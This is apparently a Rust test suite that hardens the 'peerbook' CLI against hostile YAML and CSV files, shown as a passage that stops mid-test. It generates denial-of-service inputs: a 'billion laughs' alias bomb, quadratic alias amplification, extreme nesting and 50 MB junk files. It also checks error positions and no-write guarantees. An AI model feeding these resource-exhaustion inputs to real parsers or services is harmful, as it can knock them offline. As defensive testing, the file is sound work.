//! Hostile framework, workbook and CSV files, fed to the real binary (the
//! "Hardening" issue). Each must be refused with a message that names the
//! file (and the line and column where the problem has one), or load safely.
//! Nothing may panic, hang or write a byte: every run has a time limit, and
//! the folder is compared before and after.
//!
//! The inputs are generated here, the 50 MB ones in a temporary folder.
//!
//! (Over 600 lines: one hostile input a test, grouped by what they attack.)

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::fs;
use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::thread;
use std::time::Duration;

use peerbook::framework::{self, Origin};
use peerbook::workbook::{self, Rating, Status, Workbook};

mod support;
use support::bin::{Home, output_within};
/// A command that takes longer than this has hung.
const LIMIT: Duration = Duration::from_secs(20);
/// Alias bombs and deep nesting must be refused at least this quickly.
const QUICK: Duration = Duration::from_secs(5);

/// A small framework with a scale and scoring. Line numbers matter: tests
/// point at them.
const BASE_FW: &str = r#"kind: framework
format: 1
id: hostile-test
version: "1"
title: Hostile test
scale: cqc-4
scoring:
  method: percent-of-max
  bands:
    - { from: 50, label: Good }
domains:
  - id: d1
    title: Domain one
    questions:
      - id: "1"
        text: First question
      - id: "2"
        text: Second question
"#;

/// The classic "billion laughs": nine levels of nine aliases each.
fn alias_bomb() -> String {
    let mut s = String::from(
        "a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n",
    );
    let names = ["a", "b", "c", "d", "e", "f", "g", "h", "i"];
    for w in names.windows(2) {
        let refs = vec![format!("*{}", w[0]); 9].join(",");
        let _ = writeln!(s, "{}: &{} [{refs}]", w[1], w[1]);
    }
    s
}

/// The base framework with `x-` extension keys (kept, per the format) that
/// amplify: one anchored list of `k` items, aliased `k` times. Each alias is
/// one jump, far below serde_yaml's repetition limit, yet the document
/// expands to k² nodes.
fn quadratic_alias_framework(k: usize) -> String {
    let items = vec!["x"; k].join(",");
    let refs = vec!["*a"; k].join(",");
    format!("{BASE_FW}x-items: &a [{items}]\nx-copies: [{refs}]\n")
}

/// A new workbook for the framework `fw_text`, with question 1 answered
/// (draft, a narrative, rated 3 where the framework has a scale) and
/// question 2 not started.
fn make_workbook(fw_text: &str) -> String {
    let (fw, diags) = framework::load_text(
        "base.yaml",
        fw_text.as_bytes(),
        Origin::File("base.yaml".into()),
    );
    let fw = fw.unwrap_or_else(|| panic!("the framework should load:\n{diags}"));
    let rated = fw.scale.is_some();
    let mut wb = Workbook::new(fw, "Testshire County Council", "Hostile review");
    let a = wb.answer_mut("1");
    a.status = Status::Draft;
    if rated {
        a.rating = Rating::Level(3);
    }
    a.narrative = "First answer".into();
    workbook::to_text(&wb)
}

fn base_workbook() -> String {
    make_workbook(BASE_FW)
}

/// A file made by one edit: its name, the text replaced and its
/// replacement, where the error should be reported, and words the message
/// should have.
type EditCase = (
    &'static str,
    &'static str,
    &'static str,
    (usize, usize),
    &'static str,
);

/// `text` with the one occurrence of `from` replaced.
fn edit(text: &str, from: &str, to: &str) -> String {
    assert_eq!(
        text.matches(from).count(),
        1,
        "{from:?} should occur once in:\n{text}"
    );
    text.replacen(from, to, 1)
}

/// Line and column (from 1, in characters) where `within` starts inside the
/// one occurrence of `marker` in `text`.
fn at(text: &str, marker: &str, within: &str) -> (usize, usize) {
    assert_eq!(
        text.matches(marker).count(),
        1,
        "{marker:?} should occur once"
    );
    let start = text.find(marker).unwrap() + marker.find(within).expect("within in marker");
    let before = &text[..start];
    let line = before.matches('\n').count() + 1;
    let line_start = before.rfind('\n').map_or(0, |i| i + 1);
    (line, before[line_start..].chars().count() + 1)
}

/// What one run of the binary did.
struct Run {
    args: Vec<String>,
    code: Option<i32>,
    stdout: Vec<u8>,
    stderr: Vec<u8>,
}

impl Run {
    fn text(&self) -> String {
        format!(
            "{}{}",
            String::from_utf8_lossy(&self.stdout),
            String::from_utf8_lossy(&self.stderr)
        )
    }
    /// The start of the output, for failure messages.
    fn excerpt(&self) -> String {
        let t = self.text();
        let cut: String = t.chars().take(3000).collect();
        format!(
            "`peerbook {}` exited with {:?}:\n{cut}",
            self.args.join(" "),
            self.code
        )
    }
    /// Exited on its own, without a panic.
    fn no_panic(&self) {
        assert!(
            self.code.is_some(),
            "killed by a signal (abort?): {}",
            self.excerpt()
        );
        assert_ne!(self.code, Some(101), "a panic: {}", self.excerpt());
        let t = self.text();
        assert!(
            !t.contains("panicked") && !t.contains("RUST_BACKTRACE"),
            "{}",
            self.excerpt()
        );
    }
    fn refused(&self) -> &Run {
        self.no_panic();
        assert!(
            matches!(self.code, Some(1 | 2)),
            "expected exit code 1 or 2: {}",
            self.excerpt()
        );
        self
    }
    fn ok(&self) -> &Run {
        self.no_panic();
        assert_eq!(self.code, Some(0), "{}", self.excerpt());
        self
    }
    /// The output names `file`, at `pos` when given, else at some line and
    /// column.
    fn names(&self, file: &str, pos: Option<(usize, usize)>) -> &Run {
        let t = self.text();
        match pos {
            Some((l, c)) => assert!(
                t.contains(&format!("{file}:{l}:{c}: ")),
                "expected {file}:{l}:{c}: in {}",
                self.excerpt()
            ),
            None => assert!(
                has_line_col(&t, file),
                "expected {file}:LINE:COLUMN in {}",
                self.excerpt()
            ),
        }
        self
    }
    fn says(&self, words: &[&str]) -> &Run {
        let t = self.text();
        for w in words {
            assert!(t.contains(w), "expected {w:?} in {}", self.excerpt());
        }
        self
    }
}

/// `FILE:LINE:COLUMN` somewhere in `text`.
fn has_line_col(text: &str, file: &str) -> bool {
    let needle = format!("{file}:");
    text.match_indices(&needle).any(|(i, _)| {
        let rest = &text[i + needle.len()..];
        let mut parts = rest.splitn(3, ':');
        let num = |s: Option<&str>| {
            s.is_some_and(|s| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit()))
        };
        num(parts.next()) && num(parts.next()) && parts.next().is_some()
    })
}

/// Every file under a folder, with its bytes (folders as `<dir>`).
type Snapshot = BTreeMap<PathBuf, Vec<u8>>;

fn snapshot(root: &Path) -> Snapshot {
    fn walk(root: &Path, dir: &Path, out: &mut Snapshot) {
        for e in fs::read_dir(dir).unwrap() {
            let p = e.unwrap().path();
            let rel = p.strip_prefix(root).unwrap().to_path_buf();
            if p.is_dir() {
                out.insert(rel, b"<dir>".to_vec());
                walk(root, &p, out);
            } else {
                out.insert(rel, fs::read(&p).unwrap());
            }
        }
    }
    let mut out = Snapshot::new();
    walk(root, root, &mut out);
    out
}

fn assert_same(before: &Snapshot, after: &Snapshot, what: &str) {
    let mut diff = Vec::new();
    for (p, b) in before {
        match after.get(p) {
            None => diff.push(format!("removed {}", p.display())),
            Some(a) if a != b => diff.push(format!("changed {}", p.display())),
            _ => {}
        }
    }
    for p in after.keys().filter(|p| !before.contains_key(*p)) {
        diff.push(format!("added {}", p.display()));
    }
    assert!(diff.is_empty(), "{what} wrote to the folder: {diff:?}");
}

/// Which commands a hostile file is run through: all of them, or (for the
/// inputs that are slow to refuse) one of each way of reading a file.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Commands {
    All,
    Core,
}

/// A temporary folder that is both `PEERBOOK_HOME` and the working folder.
struct Env {
    home: Home,
}

impl Env {
    fn new() -> Env {
        let env = Env { home: Home::new() };
        // What `import` brings in when a workbook does load.
        env.write("rows.csv", b"ref,narrative\r\n1,Imported text\r\n");
        env
    }
    fn root(&self) -> &Path {
        self.home.root()
    }
    fn path(&self, rel: &str) -> PathBuf {
        self.home.path(rel)
    }
    fn write(&self, rel: &str, bytes: &[u8]) {
        self.home.write(rel, bytes);
    }
    fn cmd(&self, args: &[&str]) -> Command {
        let mut c = self.home.cmd(args);
        c.env("PEERBOOK_EXPORT_DATE", "2026-01-15");
        c
    }
    fn run(&self, args: &[&str]) -> Run {
        self.run_within(args, LIMIT)
    }
    /// Runs the binary; a run longer than `limit` is killed and fails the
    /// test as a hang.
    fn run_within(&self, args: &[&str], limit: Duration) -> Run {
        let (out, hung) = output_within(self.cmd(args), limit);
        let run = Run {
            args: args.iter().map(|s| s.to_string()).collect(),
            code: if hung { None } else { out.status.code() },
            stdout: out.stdout,
            stderr: out.stderr,
        };
        assert!(
            !hung,
            "did not finish within {limit:?} (a hang): {}",
            run.excerpt()
        );
        run
    }
    fn snapshot(&self) -> Snapshot {
        snapshot(self.root())
    }

    /// `file` is refused as a framework by `validate`, `new --framework`
    /// (with and without `--out`) and the framework listing, each naming
    /// the file (at `pos` when given); nothing is written.
    fn refused_as_framework(&self, file: &str, pos: Option<(usize, usize)>, words: &[&str]) {
        self.refused_as_framework_by(file, pos, words, LIMIT, Commands::All);
    }

    fn refused_as_framework_by(
        &self,
        file: &str,
        pos: Option<(usize, usize)>,
        words: &[&str],
        limit: Duration,
        which: Commands,
    ) {
        let before = self.snapshot();
        let new_args = |out: bool| {
            let mut a = vec![
                "new",
                "--framework",
                file,
                "--council",
                "Testshire",
                "--title",
                "Review",
            ];
            if out {
                a.extend(["--out", "made.yaml"]);
            }
            a
        };
        let mut runs = vec![vec!["validate", file], new_args(true)];
        if which == Commands::All {
            runs.push(new_args(false));
        }
        for args in runs {
            self.run_within(&args, limit)
                .refused()
                .names(file, pos)
                .says(words);
        }
        if which == Commands::All {
            // The listing reports the file's first problem and still lists
            // the others.
            let r = self.run_within(&["frameworks", "--kloe", file], limit);
            r.no_panic();
            r.names(file, None)
                .says(&["did not load", "cbo-standards@2015"]);
        }
        assert_same(&before, &self.snapshot(), file);
    }

    /// `file` is refused as a workbook by `validate`, `status`, `export`
    /// (CSV and Word) and `import`, each naming the file (at `pos` when
    /// given); nothing is written.
    fn refused_as_workbook(&self, file: &str, pos: Option<(usize, usize)>, words: &[&str]) {
        self.refused_as_workbook_by(file, pos, words, LIMIT, Commands::All);
    }

    fn refused_as_workbook_by(
        &self,
        file: &str,
        pos: Option<(usize, usize)>,
        words: &[&str],
        limit: Duration,
        which: Commands,
    ) {
        let before = self.snapshot();
        let mut runs: Vec<Vec<&str>> = vec![
            vec!["validate", file],
            vec!["status", file],
            vec!["import", file, "rows.csv"],
        ];
        if which == Commands::All {
            runs.push(vec!["status", file, "--format", "json"]);
            runs.push(vec!["export", file, "--format", "csv"]);
            runs.push(vec![
                "export",
                file,
                "--pack",
                "self-assessment",
                "--format",
                "docx",
                "--out",
                "out.docx",
            ]);
        }
        for args in runs {
            self.run_within(&args, limit)
                .refused()
                .names(file, pos)
                .says(words);
        }
        assert_same(&before, &self.snapshot(), file);
    }

    /// `file` loads as a framework: `validate` passes, `new` makes a
    /// workbook from it that `status` reads.
    fn loads_as_framework(&self, file: &str) {
        self.run(&["validate", file]).ok().says(&["valid"]);
        let out = format!("{file}.made.yaml");
        self.run(&[
            "new",
            "--framework",
            file,
            "--council",
            "Testshire",
            "--title",
            "Review",
            "--out",
            &out,
        ])
        .ok();
        self.run(&["status", &out]).ok();
    }

    /// `file` loads as a workbook: `validate`, `status` and the exports
    /// work, and `import` saves it so that it loads again. Returns what
    /// `status` printed.
    fn loads_as_workbook(&self, file: &str) -> Run {
        self.run(&["validate", file]).ok().says(&["valid workbook"]);
        let status = self.run(&["status", file]);
        status.ok();
        self.run(&["status", file, "--format", "json"]).ok();
        let csv = format!("{file}.csv");
        self.run(&["export", file, "--format", "csv", "--out", &csv])
            .ok();
        assert!(self.path(&csv).exists());
        let md = format!("{file}.md");
        self.run(&[
            "export", file, "--pack", "summary", "--format", "md", "--out", &md,
        ])
        .ok();
        assert!(self.path(&md).exists());
        self.run(&["import", file, "rows.csv"]).ok();
        let bytes = fs::read(self.path(file)).unwrap();
        let (wb, _) = workbook::from_text(file, &bytes)
            .unwrap_or_else(|e| panic!("{file} does not load after import:\n{e}"));
        assert_eq!(wb.answer("1").unwrap().narrative, "Imported text");
        status
    }
}

// ---------------------------------------------------------------------------
// Alias bombs and deep nesting

#[test]
fn an_alias_bomb_is_refused_quickly() {
    let env = Env::new();
    let bomb = alias_bomb();
    env.write("bomb.yaml", bomb.as_bytes());
    env.refused_as_framework_by("bomb.yaml", None, &[], QUICK, Commands::All);
    env.refused_as_workbook_by("bomb.yaml", None, &[], QUICK, Commands::All);
    // Inside a workbook, under a kept `x-` key, where it would be written
    // back out on save.
    let wb = edit(
        &base_workbook(),
        "framework:\n",
        &format!("x-bomb:\n  {}framework:\n", bomb.replace('\n', "\n  ")),
    );
    env.write("wb-bomb.yaml", wb.as_bytes());
    env.refused_as_workbook_by("wb-bomb.yaml", None, &[], QUICK, Commands::Core);
    // And inside a framework's extension keys.
    let fw = format!("{BASE_FW}x-bomb:\n  {}", bomb.replace('\n', "\n  "));
    env.write("fw-bomb.yaml", fw.as_bytes());
    env.refused_as_framework_by("fw-bomb.yaml", None, &[], QUICK, Commands::Core);
}

#[test]
fn a_small_alias_amplification_loads_safely() {
    // Well below any limit: a few aliases are legitimate YAML.
    let env = Env::new();
    env.write("fw.yaml", quadratic_alias_framework(20).as_bytes());
    env.run_within(&["validate", "fw.yaml"], QUICK).ok();
}

#[test]
fn an_alias_amplification_under_the_repetition_limit_is_refused_quickly() {
    let env = Env::new();
    env.write("amp.yaml", quadratic_alias_framework(3000).as_bytes());
    env.refused_as_framework_by("amp.yaml", None, &[], QUICK, Commands::Core);
    let wb = edit(
        &base_workbook(),
        "framework:\n",
        &format!(
            "x-items: &a [{}]\nx-copies: [{}]\nframework:\n",
            vec!["x"; 3000].join(","),
            vec!["*a"; 3000].join(",")
        ),
    );
    env.write("amp-wb.yaml", wb.as_bytes());
    env.refused_as_workbook_by("amp-wb.yaml", None, &[], QUICK, Commands::Core);
}

#[test]
fn parser_limits_and_tabs_are_explained() {
    let env = Env::new();
    let deep = "[".repeat(10_000) + &"]".repeat(10_000);
    let tab = edit(
        BASE_FW,
        "  method: percent-of-max\n",
        "\tmethod: percent-of-max\n",
    );
    let cases = [
        ("bomb.yaml", alias_bomb(), "alias"),
        ("deep.yaml", deep, "nest"),
        ("tab.yaml", tab, "tab"),
    ];
    for (name, text, word) in &cases {
        env.write(name, text.as_bytes());
        let r = env.run_within(&["validate", name], QUICK);
        r.refused();
        let t = r.text().to_lowercase();
        assert!(t.contains(word), "expected {word:?}: {}", r.excerpt());
        assert!(
            !t.contains("indentation and quotes") || *word == "tab",
            "{}",
            r.excerpt()
        );
    }
}

#[test]
fn deep_nesting_is_refused_quickly() {
    let env = Env::new();
    let cases = [
        ("flow-seq.yaml", "[".repeat(10_000) + &"]".repeat(10_000)),
        ("flow-map.yaml", "{a: ".repeat(5_000) + &"}".repeat(5_000)),
        ("block-seq.yaml", "- ".repeat(10_000) + "x\n"),
        (
            "block-map.yaml",
            (0..1_000)
                .map(|i| format!("{}k{i}:\n", " ".repeat(i)))
                .collect::<String>(),
        ),
    ];
    for (name, text) in &cases {
        env.write(name, text.as_bytes());
        env.refused_as_framework_by(name, None, &[], QUICK, Commands::Core);
        env.refused_as_workbook_by(name, None, &[], QUICK, Commands::Core);
    }
    // Nested inside a real workbook, under a kept key.
    let deep = "[".repeat(10_000) + &"]".repeat(10_000);
    let wb = edit(
        &base_workbook(),
        "framework:\n",
        &format!("x-deep: {deep}\nframework:\n"),
    );
    env.write("wb-deep.yaml", wb.as_bytes());
    env.refused_as_workbook_by("wb-deep.yaml", None, &[], QUICK, Commands::Core);
}

#[test]
fn deep_nesting_at_scale_is_refused_quickly() {
    let env = Env::new();
    env.write("deep-map.yaml", "{a: ".repeat(100_000).as_bytes());
    env.refused_as_workbook_by("deep-map.yaml", None, &[], QUICK, Commands::Core);
    env.refused_as_framework_by("deep-map.yaml", None, &[], QUICK, Commands::Core);
    env.write("deep-seq.yaml", "[".repeat(1 << 20).as_bytes());
    env.refused_as_workbook_by("deep-seq.yaml", None, &[], QUICK, Commands::Core);
}

// ---------------------------------------------------------------------------
// Size

fn fifty_megabytes() -> usize {
    50 * 1024 * 1024
}

#[test]
#[ignore = "50 MB: CI runs it, with `cargo test --test hostile -- --ignored`"]
fn a_fifty_megabyte_workbook_loads_in_bounded_time() {
    let env = Env::new();
    let line = format!("    {}\n", "lorem ipsum dolor ".repeat(5));
    let mut block = String::with_capacity(fifty_megabytes() + line.len());
    while block.len() < fifty_megabytes() {
        block.push_str(&line);
    }
    let wb = edit(
        &base_workbook(),
        "  narrative: First answer\n",
        &format!("  narrative: |\n{block}"),
    );
    drop(block);
    let wb_len = wb.len();
    env.write("big.yaml", wb.as_bytes());
    let before = env.snapshot();
    env.run(&["validate", "big.yaml"])
        .ok()
        .says(&["valid workbook"]);
    env.run(&["status", "big.yaml"])
        .ok()
        .says(&["Testshire County Council"]);
    assert_same(&before, &env.snapshot(), "validate and status");
    // (The exports read it the same way; a CSV export of it takes ~9 s even
    // in release, so it is left out here to keep the suite quick.)
    env.run(&["import", "big.yaml", "rows.csv"]).ok();
    let after = fs::read(env.path("big.yaml")).unwrap();
    assert!(after.len() < 100_000, "the narrative was not replaced");
    let (wb, _) = workbook::from_text("big.yaml", &after).unwrap();
    assert_eq!(wb.answer("1").unwrap().narrative, "Imported text");
    // The 50 MB version is kept as the .bak, whole.
    let bak = fs::metadata(env.path("big.yaml.bak")).unwrap().len();
    assert_eq!(bak, wb_len as u64);
}

#[test]
#[ignore = "50 MB: CI runs it, with `cargo test --test hostile -- --ignored`"]
fn a_fifty_megabyte_framework_loads_in_bounded_time() {
    let env = Env::new();
    let line = format!("  {}\n", "lorem ipsum dolor ".repeat(5));
    let mut block = String::with_capacity(fifty_megabytes() + line.len());
    while block.len() < fifty_megabytes() {
        block.push_str(&line);
    }
    let text = edit(
        BASE_FW,
        "title: Hostile test\n",
        &format!("title: Hostile test\ndescription: |\n{block}"),
    );
    drop(block);
    env.write("big-fw.yaml", text.as_bytes());
    let before = env.snapshot();
    env.run(&["validate", "big-fw.yaml"])
        .ok()
        .says(&["valid framework hostile-test@1"]);
    assert_same(&before, &env.snapshot(), "validate");
}

#[test]
#[ignore = "50 MB: CI runs it, with `cargo test --test hostile -- --ignored`"]
fn fifty_megabytes_of_junk_are_refused_quickly() {
    let env = Env::new();
    let n = fifty_megabytes();
    // Random bytes (xorshift): not UTF-8 almost at once.
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    let random: Vec<u8> = (0..n)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x as u8
        })
        .collect();
    env.write("random.yaml", &random);
    drop(random);
    env.refused_as_workbook_by("random.yaml", None, &["UTF-8"], QUICK, Commands::Core);
    env.write("zeros.yaml", &vec![0u8; n]);
    env.refused_as_workbook_by("zeros.yaml", None, &[], QUICK, Commands::Core);
    // One 50 MB line of text: a scalar, not a mapping.
    env.write("line.yaml", "a".repeat(n).as_bytes());
    let before = env.snapshot();
    env.run(&["status", "line.yaml"])
        .refused()
        .names("line.yaml", Some((1, 1)))
        .says(&["found text"]);
    assert_same(&before, &env.snapshot(), "status");
}

#[test]
#[ignore = "50 MB: CI runs it, with `cargo test --test hostile -- --ignored`"]
fn a_fifty_megabyte_workbook_of_small_items_is_refused_past_the_limit_on_values() {
    let env = Env::new();
    let mut items = String::new();
    while items.len() < fifty_megabytes() {
        items.push_str("  - strength\n");
    }
    let wb = edit(
        &base_workbook(),
        "  narrative: First answer\n",
        &format!("  narrative: First answer\n  strengths:\n{items}"),
    );
    drop(items);
    env.write("many.yaml", wb.as_bytes());
    // 4.4 million list items: past the limit on values, refused at the item
    // that crosses it.
    env.refused_as_workbook_by(
        "many.yaml",
        None,
        &["more than 4000000 values"],
        LIMIT,
        Commands::Core,
    );
}

// The framework half of the test above, on its own so the two run side by
// side (each parses 50 MB several times).
#[test]
#[ignore = "50 MB: CI runs it, with `cargo test --test hostile -- --ignored`"]
fn a_fifty_megabyte_framework_of_small_items_is_refused_past_the_limit_on_values() {
    let env = Env::new();
    let mut fw = String::from(BASE_FW);
    let mut i = 0;
    while fw.len() < fifty_megabytes() {
        let _ = write!(fw, "      - id: q{i}\n        text: Question {i}\n");
        i += 1;
    }
    env.write("many-fw.yaml", fw.as_bytes());
    env.refused_as_framework_by(
        "many-fw.yaml",
        None,
        &["more than 4000000 values"],
        LIMIT,
        Commands::Core,
    );
}

// ---------------------------------------------------------------------------
// Encoding and layout

#[test]
fn invalid_utf8_is_refused_at_its_line_and_column() {
    let env = Env::new();
    // Line 5, `title: Hos` then a byte that is not UTF-8.
    let mut bytes = BASE_FW.as_bytes().to_vec();
    let i = BASE_FW.find("title: Hos").unwrap() + "title: Hos".len();
    bytes.insert(i, 0xff);
    env.write("latin1.yaml", &bytes);
    env.refused_as_framework("latin1.yaml", Some((5, 11)), &["UTF-8"]);

    let wb = base_workbook();
    let (line, col) = at(&wb, "council: Testshire", "Testshire");
    let wb = edit(&wb, "council: Testshire", "council: Test\u{1}shire");
    let mut bytes = wb.into_bytes();
    let i = bytes.iter().position(|b| *b == 1).unwrap();
    bytes[i] = 0xe9; // é in Latin-1
    env.write("latin1-wb.yaml", &bytes);
    env.refused_as_workbook("latin1-wb.yaml", Some((line, col + 4)), &["UTF-8"]);

    // UTF-16 with its byte-order mark, as Windows Notepad can save.
    let mut utf16 = vec![0xff, 0xfe];
    for u in base_workbook().encode_utf16() {
        utf16.extend(u.to_le_bytes());
    }
    env.write("utf16.yaml", &utf16);
    env.refused_as_workbook("utf16.yaml", Some((1, 1)), &["UTF-8"]);
    env.refused_as_framework("utf16.yaml", Some((1, 1)), &["UTF-8"]);
}

#[test]
fn a_byte_order_mark_and_crlf_line_ends_load() {
    let env = Env::new();
    let bom_crlf = |s: &str| format!("\u{feff}{}", s.replace('\n', "\r\n"));
    env.write("fw.yaml", bom_crlf(BASE_FW).as_bytes());
    env.loads_as_framework("fw.yaml");
    env.write("wb.yaml", bom_crlf(&base_workbook()).as_bytes());
    let status = env.loads_as_workbook("wb.yaml");
    // The same figures as the plain file.
    env.write("plain.yaml", base_workbook().as_bytes());
    let plain = env.run(&["status", "plain.yaml"]);
    assert_eq!(plain.ok().stdout, status.stdout);
    // With a BOM and CRLF, an error is reported at the same line and
    // column as in the plain file.
    let broken = edit(
        BASE_FW,
        "        text: Second question\n",
        "        txt: Second question\n",
    );
    env.write("broken-crlf.yaml", bom_crlf(&broken).as_bytes());
    env.write("broken-lf.yaml", broken.as_bytes());
    env.refused_as_framework("broken-crlf.yaml", Some((18, 9)), &["unknown key 'txt'"]);
    env.refused_as_framework("broken-lf.yaml", Some((18, 9)), &["unknown key 'txt'"]);
    // A lone CR (old Mac line ends) is a line break to YAML too.
    env.write("cr.yaml", BASE_FW.replace('\n', "\r").as_bytes());
    env.loads_as_framework("cr.yaml");
}

#[test]
fn tabs_indenting_are_refused_and_tabs_inside_text_load() {
    let env = Env::new();
    let tabbed = edit(
        BASE_FW,
        "  method: percent-of-max\n",
        "\tmethod: percent-of-max\n",
    );
    env.write("tab-indent.yaml", tabbed.as_bytes());
    env.refused_as_framework("tab-indent.yaml", Some((8, 1)), &[]);
    let wb = base_workbook();
    let (line, _) = at(&wb, "  title: Hostile review", "title");
    let tabbed = edit(&wb, "  title: Hostile review", "\ttitle: Hostile review");
    env.write("tab-indent-wb.yaml", tabbed.as_bytes());
    // libyaml reads the tab as part of the line before; the message points
    // there and names the line with the tab.
    env.refused_as_workbook(
        "tab-indent-wb.yaml",
        None,
        &["tab", &format!("line {line}")],
    );
    // Tabs after the colon and inside values are fine.
    let fw = edit(BASE_FW, "title: Hostile test", "title:\tHostile\ttest");
    env.write("tab-value.yaml", fw.as_bytes());
    env.loads_as_framework("tab-value.yaml");
    let wb = edit(
        &wb,
        "council: Testshire County Council",
        "council:\tTestshire\tCounty Council",
    );
    env.write("tab-value-wb.yaml", wb.as_bytes());
    env.loads_as_workbook("tab-value-wb.yaml");
}

// ---------------------------------------------------------------------------
// Keys and values

#[test]
fn duplicate_keys_are_refused_at_the_repeated_key() {
    let env = Env::new();
    let fw = edit(
        BASE_FW,
        "title: Hostile test\n",
        "title: Hostile test\ntitle: Again\n",
    );
    env.write("dup.yaml", fw.as_bytes());
    env.refused_as_framework("dup.yaml", Some((6, 1)), &["duplicate", "title"]);
    let wb = edit(
        &base_workbook(),
        "format: 1\nreview:",
        "format: 1\nformat: 1\nreview:",
    );
    env.write("dup-wb.yaml", wb.as_bytes());
    env.refused_as_workbook("dup-wb.yaml", Some((3, 1)), &["duplicate", "format"]);
}

#[test]
fn nested_duplicate_keys_are_refused_at_the_repeated_key() {
    let env = Env::new();
    let wb = base_workbook();
    let wb = edit(
        &wb,
        "  title: Hostile review\n",
        "  title: Hostile review\n  title: Again\n",
    );
    let pos = at(&wb, "  title: Again", "title");
    env.write("dup-review.yaml", wb.as_bytes());
    env.refused_as_workbook("dup-review.yaml", Some(pos), &["duplicate", "title"]);
    let fw = edit(
        BASE_FW,
        "        text: First question\n",
        "        text: First question\n        text: Again\n",
    );
    env.write("dup-question.yaml", fw.as_bytes());
    env.refused_as_framework("dup-question.yaml", Some((17, 9)), &["duplicate", "text"]);
}

#[test]
fn keys_of_the_wrong_type_are_refused_where_they_are() {
    let env = Env::new();
    let fw_cases: [EditCase; 6] = [
        (
            "domains-text.yaml",
            "domains:\n",
            "domains: just text\nx-old:\n",
            (11, 10),
            "should be a list",
        ),
        (
            "scale-list.yaml",
            "scale: cqc-4",
            "scale: [1, 2]",
            (6, 8),
            "should be a mapping",
        ),
        (
            "title-map.yaml",
            "title: Hostile test",
            "title:\n  a: 1",
            (6, 3),
            "should be text",
        ),
        (
            "id-list.yaml",
            "      - id: \"1\"",
            "      - id: [a]",
            (15, 13),
            "should be text",
        ),
        (
            "format-text.yaml",
            "format: 1",
            "format: one",
            (2, 9),
            "whole number",
        ),
        (
            "bands-map.yaml",
            "  bands:\n    - { from: 50, label: Good }",
            "  bands:\n    from: 50",
            (10, 5),
            "should be a list",
        ),
    ];
    for (name, from, to, pos, words) in fw_cases {
        env.write(name, edit(BASE_FW, from, to).as_bytes());
        env.refused_as_framework(name, Some(pos), &[words]);
    }
    // A key that is itself a list.
    env.write(
        "complex-key.yaml",
        format!("{BASE_FW}? [a, b]\n: x\n").as_bytes(),
    );
    env.refused_as_framework("complex-key.yaml", None, &["not text"]);

    let wb = base_workbook();
    let wb_cases: [(&str, &str, &str, &str, &str); 5] = [
        (
            "review-list.yaml",
            "review:\n  council: Testshire County Council\n  title: Hostile review\n",
            "review: [1, 2]\n",
            "review: [1, 2]",
            "should be a mapping",
        ),
        (
            "answers-number.yaml",
            "answers:\n",
            "answers: 5\nx-answers:\n",
            "answers: 5",
            "should be a list",
        ),
        (
            "narrative-list.yaml",
            "narrative: First answer",
            "narrative: [a, b]",
            "narrative: [a, b]",
            "should be text",
        ),
        (
            "status-number.yaml",
            "status: draft",
            "status: 3",
            "status: 3",
            "cannot be '3'",
        ),
        (
            "changed-text.yaml",
            "  narrative: First answer\n",
            "  narrative: First answer\n  changed: yesterday\n",
            "changed: yesterday",
            "should be a mapping",
        ),
    ];
    for (name, from, to, marker, words) in wb_cases {
        let text = edit(&wb, from, to);
        let value = marker.split_once(": ").unwrap().1;
        let pos = at(&text, marker, value);
        env.write(name, text.as_bytes());
        env.refused_as_workbook(name, Some(pos), &[words]);
    }
}

#[test]
fn ratings_outside_the_scale_are_refused_at_the_rating() {
    let env = Env::new();
    let wb = base_workbook();
    for (i, bad) in [
        "9",
        "0",
        "-1",
        "2.5",
        "high",
        "9999999999999999999",
        "[1, 2]",
        "true",
        "''",
    ]
    .iter()
    .enumerate()
    {
        let text = edit(&wb, "  rating: 3\n", &format!("  rating: {bad}\n"));
        let pos = at(&text, &format!("  rating: {bad}\n"), bad);
        let name = format!("rating-{i}.yaml");
        env.write(&name, text.as_bytes());
        env.refused_as_workbook(&name, Some(pos), &["not on the scale"]);
    }
    // N/A where the scale does not allow it.
    let no_na = edit(
        BASE_FW,
        "scale: cqc-4",
        "scale:\n  not_applicable: false\n  levels:\n    - {value: 1, label: Low}\n    - {value: 4, label: High}",
    );
    let text = edit(&make_workbook(&no_na), "  rating: 3\n", "  rating: n/a\n");
    let pos = at(&text, "  rating: n/a", "n/a");
    env.write("na.yaml", text.as_bytes());
    env.refused_as_workbook("na.yaml", Some(pos), &["does not allow N/A"]);
    // A findings-only framework takes no rating at all.
    let findings = edit(
        BASE_FW,
        "scale: cqc-4\nscoring:\n  method: percent-of-max\n  bands:\n    - { from: 50, label: Good }\n",
        "",
    );
    let text = edit(
        &make_workbook(&findings),
        "  status: draft\n",
        "  status: draft\n  rating: 3\n",
    );
    let pos = at(&text, "  rating: 3", "3");
    env.write("findings.yaml", text.as_bytes());
    env.refused_as_workbook("findings.yaml", Some(pos), &["findings-only"]);
}

#[test]
fn negative_huge_and_infinite_numbers_are_refused_or_kept() {
    let env = Env::new();
    // Frameworks.
    let cases: [EditCase; 5] = [
        (
            "format-neg.yaml",
            "format: 1",
            "format: -1",
            (2, 9),
            "not supported",
        ),
        (
            "format-inf.yaml",
            "format: 1",
            "format: 1e400",
            (2, 9),
            "whole number",
        ),
        (
            "format-float.yaml",
            "format: 1",
            "format: 1.5",
            (2, 9),
            "whole number",
        ),
        (
            "band-nan.yaml",
            "from: 50",
            "from: .nan",
            (10, 15),
            "should be a number",
        ),
        (
            "band-inf.yaml",
            "from: 50",
            "from: -.inf",
            (10, 15),
            "should be a number",
        ),
    ];
    for (name, from, to, pos, words) in cases {
        env.write(name, edit(BASE_FW, from, to).as_bytes());
        env.refused_as_framework(name, Some(pos), &[words]);
    }
    let huge_level = edit(
        BASE_FW,
        "scale: cqc-4",
        "scale:\n  levels:\n    - {value: 1, label: Low}\n    - {value: 9000000000000, label: High}",
    );
    env.write("level-huge.yaml", huge_level.as_bytes());
    env.refused_as_framework("level-huge.yaml", Some((9, 15)), &["too large"]);
    let negative_levels = edit(
        BASE_FW,
        "scale: cqc-4",
